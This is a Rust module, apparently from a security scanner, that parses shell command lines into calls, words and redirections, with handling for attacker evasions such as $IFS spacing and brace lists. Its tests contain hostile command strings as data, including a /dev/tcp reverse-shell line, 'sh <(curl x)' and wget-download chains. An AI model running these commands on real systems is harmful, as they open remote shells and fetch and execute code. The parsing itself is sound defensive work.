//! A command line as a shell takes it apart: calls of programs, their words, and what joins them.
//!
//! In: bytes. Out: [`Call`]s, in their order. Runs nothing and looks nothing up: `$x` stays `$x`.
//! Reads what attackers write, and so takes `$IFS` for a space, and goes on where a quote has no
//! end.

/// Most calls of a line, and words of a call.
const MAX_CALLS: usize = 48;
const MAX_WORDS: usize = 48;
/// Spellings of a space without one.
const SPACES: [&[u8]; 5] = [b"${IFS}", b"$IFS$9", b"$IFS$1", b"$IFS", b"%IFS%"];

/// How a call is joined to the one before it.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) enum Join {
    /// It comes after it: `;`, `&&`, a line end.
    #[default]
    Then,
    /// It comes when that fails: `||`.
    Or,
    /// It takes its output: `|`.
    Pipe,
}

/// A program and its arguments.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Call {
    pub(super) join: Join,
    /// Without quotes; the first one is the program.
    pub(super) words: Vec<Vec<u8>>,
    /// The file that its output goes to.
    pub(super) into: Option<Vec<u8>>,
    /// Lines that are run first, for what they say: `$(…)` and backticks.
    pub(super) inner: Vec<Vec<u8>>,
    /// A `(` stands right behind it: it is a function of another language.
    pub(super) is_function: bool,
    /// Where in the line it ends.
    pub(super) end: usize,
}

/// What the next word is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Next {
    #[default]
    Argument,
    /// The file for its output.
    Into,
    /// A file for its errors or its input.
    Other,
}

#[derive(Default)]
struct Reader<'a> {
    line: &'a [u8],
    at: usize,
    calls: Vec<Call>,
    call: Call,
    /// `None`: no word has begun.
    word: Option<Vec<u8>>,
    next: Next,
    /// Quotes that have no end from here on.
    endless: Vec<u8>,
    /// `\` is part of a path.
    is_windows: bool,
}

/// Takes a line apart.
pub(super) fn calls(line: &[u8]) -> Vec<Call> {
    let mut reader = Reader {
        line,
        is_windows: line.windows(2).any(|two| two == br":\"),
        ..Reader::default()
    };
    while reader.calls.len() < MAX_CALLS && reader.step() {}
    reader.end_call(Join::Then);
    reader.calls
}

impl Reader<'_> {
    fn rest(&self) -> &[u8] {
        self.line.get(self.at..).unwrap_or_default()
    }

    fn is_next(&self, bytes: &[u8]) -> bool {
        self.rest().starts_with(bytes)
    }

    /// Reads on; `false` at the end.
    fn step(&mut self) -> bool {
        let Some(&byte) = self.rest().first() else {
            return false;
        };
        if let Some(space) = SPACES.iter().find(|space| self.is_next(space)) {
            self.at += space.len();
            self.end_word();
            return true;
        }
        match byte {
            b' ' | b'\t' => self.space(),
            b'\n' | b'\r' | 0 | b';' | b'(' | b')' => self.join(1, Join::Then),
            b'|' if self.is_next(b"||") => self.join(2, Join::Or),
            b'|' => self.join(1, Join::Pipe),
            b'&' if self.is_next(b"&&") => self.join(2, Join::Then),
            // The digit is that of another file: `>&1`.
            b'&' if self.is_next(b"&>") => self.at += 1,
            b'&' => self.join(1, Join::Then),
            b'>' | b'<' => self.redirect(byte),
            b'#' if self.word.is_none() => self.comment(),
            b'\'' | b'"' => self.quoted(byte, false),
            b'`' => self.inner(1, b'`'),
            b'$' if self.is_next(b"$(") => self.inner(2, b')'),
            b'\\' => self.escape(),
            b'{' | b'}' if self.word.is_none() => self.brace(),
            _ => self.push(byte),
        }
        true
    }

    fn push(&mut self, byte: u8) {
        self.word.get_or_insert_default().push(byte);
        self.at += 1;
    }

    fn space(&mut self) {
        self.at += 1;
        self.end_word();
    }

    fn join(&mut self, bytes: usize, join: Join) {
        self.end_call(join);
        self.at += bytes;
    }

    fn end_word(&mut self) {
        let Some(word) = self.word.take() else {
            return;
        };
        match std::mem::take(&mut self.next) {
            Next::Into => self.call.into = Some(word),
            Next::Other => {}
            Next::Argument if self.call.words.len() < MAX_WORDS => self.call.words.push(word),
            Next::Argument => {}
        }
    }

    fn end_call(&mut self, join: Join) {
        let has_word = self.word.is_some();
        self.end_word();
        self.next = Next::Argument;
        self.call.is_function = has_word && self.is_next(b"(");
        self.call.end = self.at.min(self.line.len());
        let call = std::mem::take(&mut self.call);
        let is_empty = call.words.is_empty() && call.inner.is_empty();
        // What joins the next one to nothing joins it to what was before.
        self.call.join = if is_empty && self.calls.is_empty() {
            Join::Then
        } else {
            join
        };
        if !is_empty {
            self.calls.push(call);
        }
    }

    fn comment(&mut self) {
        let end = self.rest().iter().position(|&byte| byte == b'\n');
        self.at += end.unwrap_or(self.rest().len());
    }

    /// Up to the other quote; without one, it is none. `is_escaped`: both have a `\` before them,
    /// as in JSON.
    fn quoted(&mut self, quote: u8, is_escaped: bool) {
        self.at += 1;
        // Where one has no end, none behind it has one.
        if self.endless.contains(&quote) {
            return;
        }
        let Some(length) = quoted_length(self.rest(), quote, is_escaped) else {
            self.endless.push(quote);
            return;
        };
        let mut text = self.rest()[..length].to_vec();
        self.at += length + 1;
        if quote == b'"' {
            self.call.inner.extend(inner_lines(&text));
        }
        if is_escaped && text.ends_with(br"\") {
            text.pop();
        }
        let word = self.word.get_or_insert_default();
        for (at, &byte) in text.iter().enumerate() {
            let is_escape = quote == b'"' && text[at..].starts_with(br#"\""#);
            if !is_escape {
                word.push(byte);
            }
        }
    }

    /// A line whose output becomes part of the word.
    fn inner(&mut self, start: usize, end: u8) {
        let begins = self.rest().get(start..).unwrap_or_default();
        let length = inner_length(begins, end);
        let line = begins[..length].to_vec();
        // With what encloses it, as far as that is there.
        let whole = (start + length + 1).min(self.rest().len());
        let text = self.rest()[..whole].to_vec();
        self.word.get_or_insert_default().extend(text);
        self.call.inner.push(line);
        self.at += whole;
    }

    fn redirect(&mut self, byte: u8) {
        // `2>` is for errors, `1>` and `>` for the output.
        let number = self.word.take_if(|word| matches!(word[..], [b'0'..=b'9']));
        self.end_word();
        self.at += 1;
        if self.is_next(b"(") {
            self.inner(1, b')');
            return;
        }
        while let Some(b'>' | b'<' | b'|') = self.rest().first() {
            self.at += 1;
        }
        let is_output = byte == b'>' && number.is_none_or(|number| number == b"1");
        if self.is_next(b"&") {
            self.at += 1;
            if let [b'0'..=b'9' | b'-', ..] = self.rest() {
                self.at += 1;
                return;
            }
        }
        self.next = if is_output { Next::Into } else { Next::Other };
    }

    fn escape(&mut self) {
        match self.rest().get(1) {
            // In JSON, a quote is written so.
            Some(&quote @ (b'"' | b'\'')) => {
                self.at += 1;
                self.quoted(quote, true);
            }
            Some(b'/') | None => self.at += 1,
            Some(b'\n') => self.at += 2,
            Some(_) if self.is_windows => self.push(b'\\'),
            // Written by a program: `\n` is a line end.
            Some(b'n' | b'r') => self.join(2, Join::Then),
            Some(&next) => {
                self.at += 1;
                self.push(next);
            }
        }
    }

    /// `{wget,http://…}` is a call without a space; any other brace is none of our business.
    fn brace(&mut self) {
        let Some(list) = braced_list(self.rest()) else {
            self.at += 1;
            return;
        };
        let list = list.to_vec();
        self.at += list.len() + 2;
        for word in list.split(|&byte| byte == b',') {
            if self.call.words.len() < MAX_WORDS {
                self.call.words.push(word.to_vec());
            }
        }
    }
}

/// Where the other quote is; `is_escaped`: a `\` may stand before it.
fn quoted_length(text: &[u8], quote: u8, is_escaped: bool) -> Option<usize> {
    let mut before = 0;
    for (at, &byte) in text.iter().enumerate() {
        if byte == quote && (before != b'\\' || is_escaped) {
            return Some(at);
        }
        before = byte;
    }
    None
}

/// What is between braces, if that has a comma and no space.
fn braced_list(text: &[u8]) -> Option<&[u8]> {
    let end = text.iter().position(|byte| b"} \t\n;".contains(byte))?;
    let list = text.get(1..end)?;
    (text[end] == b'}' && list.contains(&b',')).then_some(list)
}

/// Where a line ends that is inside another one: at a backtick, or at the `)` that belongs to it.
pub(super) fn inner_length(begins: &[u8], end: u8) -> usize {
    let mut depth = 0_usize;
    for (at, &byte) in begins.iter().enumerate() {
        if byte == end && depth == 0 {
            return at;
        }
        match byte {
            b'(' => depth += 1,
            b')' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    begins.len()
}

/// The lines that run inside a text in double quotes.
fn inner_lines(text: &[u8]) -> Vec<Vec<u8>> {
    let mut lines = Vec::new();
    let mut at = 0;
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
        let (start, end) = match rest {
            [b'`', ..] => (1, b'`'),
            [b'$', b'(', ..] => (2, b')'),
            _ => {
                at += 1;
                continue;
            }
        };
        let begins = &rest[start..];
        let length = inner_length(begins, end);
        lines.push(begins[..length].to_vec());
        at += start + length + 1;
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(line: &str) -> Vec<(Join, String, Option<String>)> {
        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        let one = |call: Call| {
            let words: Vec<_> = call.words.iter().map(|word| text(word)).collect();
            (
                call.join,
                words.join("_"),
                call.into.map(|file| text(&file)),
            )
        };
        calls(line.as_bytes()).into_iter().map(one).collect()
    }

    fn words(line: &str) -> Vec<String> {
        read(line).into_iter().map(|(_, words, _)| words).collect()
    }

    #[test]
    fn a_line_is_calls() {
        for (line, calls) in [
            ("cd /tmp;wget x", &["cd_/tmp", "wget_x"][..]),
            ("cd /tmp&&wget x & y\nz", &["cd_/tmp", "wget_x", "y", "z"]),
            ("wget${IFS}x$IFS-O$IFS$9y", &["wget_x_-O_y"]),
            ("w'ge't \"a b\" 'c\"d'", &["wget_a b_c\"d"]),
            (r"w\get x", &["wget_x"]),
            (r"copy C:\a\b.exe", &[r"copy_C:\a\b.exe"]),
            ("{wget,x,y};z", &["wget_x_y", "z"]),
            ("{ id; }", &["id"]),
            (r#"sh -c \"wget x\";"#, &["sh_-c_wget x"]),
            ("id # a; b\nc", &["id", "c"]),
            ("it's", &["its"]),
            ("ping $(id).a `b`", &["ping_$(id).a_`b`"]),
            ("", &[]),
            (";;||;", &[]),
        ] {
            assert_eq!(words(line), calls, "{line}");
        }
    }

    #[test]
    fn calls_are_joined() {
        let found = read("a||b|c;d");
        let joins: Vec<_> = found.iter().map(|(join, ..)| *join).collect();
        assert_eq!(joins, [Join::Then, Join::Or, Join::Pipe, Join::Then]);
    }

    #[test]
    fn redirections_are_no_words() {
        for (line, words, into) in [
            ("echo a>b", "echo_a", Some("b")),
            ("echo a >> b c", "echo_a_c", Some("b")),
            ("echo a 2>/dev/null 1>b", "echo_a", Some("b")),
            ("a 2>&1 </dev/null b", "a_b", None),
            (
                "bash -i >& /dev/tcp/a/1 0>&1",
                "bash_-i",
                Some("/dev/tcp/a/1"),
            ),
        ] {
            let (_, found, file) = read(line).remove(0);
            assert_eq!((&*found, file.as_deref()), (words, into), "{line}");
        }
    }

    #[test]
    fn lines_inside_are_found() {
        let inner = |line: &str| {
            let inner = calls(line.as_bytes()).remove(0).inner;
            inner
                .iter()
                .map(|line| String::from_utf8_lossy(line).into_owned())
                .collect::<Vec<_>>()
        };
        assert_eq!(inner("a $(b $(c) d)`e`"), ["b $(c) d", "e"]);
        assert_eq!(inner("a \"$(b)`c`\""), ["b", "c"]);
        assert_eq!(inner("sh <(curl x)"), ["curl x"]);
        assert_eq!(inner("a '$(b)'"), Vec::<String>::new());
        assert_eq!(inner("a $(b"), ["b"]);
    }
}
